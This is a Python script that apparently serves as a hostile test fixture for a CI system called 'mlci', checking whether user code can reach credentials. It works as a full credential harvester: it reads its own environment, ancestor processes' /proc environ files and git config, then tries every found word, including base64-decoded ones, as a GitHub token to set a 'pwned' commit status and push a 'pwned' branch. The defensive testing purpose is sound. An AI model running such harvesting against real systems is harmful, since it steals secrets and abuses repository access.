"""A hostile deploy command: it looks for credentials wherever user code can, and uses them.

Usage: steal_credentials.py RESULT_JSON API_URL REPO SHA GIT_URL

It records its whole environment, the environment of every process above it (readable in
/proc/<pid>/environ by any process of the same user: mlci's own among them) and `git config
--list --show-origin`, then tries every word it found (as is, and base64-decoded) as a GitHub
token on the API (setting a commit status) and pushes a branch to GIT_URL with whatever git
finds configured. It always exits 0, so only its findings decide the test.
"""

from __future__ import annotations

import base64
import binascii
import json
import os
import re
import subprocess
import sys
import urllib.error
import urllib.request


def candidates(texts: list[str]) -> set[str]:
    found: set[str] = set()
    for text in texts:
        for word in re.split(r"[\s=:'\"]+", text):
            if len(word) < 8:
                continue
            found.add(word)
            try:
                decoded = base64.b64decode(word + "=" * (-len(word) % 4), validate=True)
                plain = decoded.decode("utf-8")
            except (binascii.Error, UnicodeDecodeError, ValueError):
                continue
            found.update(p for p in plain.split(":") if len(p) >= 8)
    return found


def try_api(api: str, repo: str, sha: str, token: str) -> int:
    body = json.dumps({"state": "success", "context": "pwned"}).encode()
    request = urllib.request.Request(f"{api}/repos/{repo}/statuses/{sha}", data=body, method="POST")
    request.add_header("Authorization", f"token {token}")
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except (urllib.error.URLError, ValueError):
        return 0


def ancestors_environ() -> dict[int, str]:
    """What /proc/<pid>/environ shows of each process above this one (Linux)."""
    found: dict[int, str] = {}
    pid = os.getppid()
    while pid > 1 and pid not in found:
        try:
            with open(f"/proc/{pid}/environ", "rb") as source:
                found[pid] = source.read().decode("utf-8", "replace").replace("\0", "\n")
            with open(f"/proc/{pid}/stat", "rb") as source:
                stat = source.read()
        except OSError:
            break
        pid = int(stat[stat.rindex(b")") + 2 :].split()[1])
    return found


def main(result: str, api: str, repo: str, sha: str, git_url: str) -> int:
    env = dict(os.environ)
    ancestors = ancestors_environ()
    config = subprocess.run(
        ["git", "config", "--list", "--show-origin"], capture_output=True, text=True
    ).stdout
    push = subprocess.run(
        ["git", "push", git_url, "HEAD:refs/heads/pwned"],
        capture_output=True,
        text=True,
        env={**env, "GIT_TERMINAL_PROMPT": "0"},
        stdin=subprocess.DEVNULL,
    )
    tokens = sorted(candidates([*env.values(), config, *ancestors.values()]))
    statuses = {token: try_api(api, repo, sha, token) for token in tokens}
    with open(result, "w", encoding="utf-8") as out:
        json.dump(
            {
                "env": env,
                "ancestors": ancestors,
                "git_config": config,
                "push_code": push.returncode,
                "push_stderr": push.stderr,
                "api": statuses,
            },
            out,
        )
    return 0


if __name__ == "__main__":
    raise SystemExit(main(*sys.argv[1:6]))
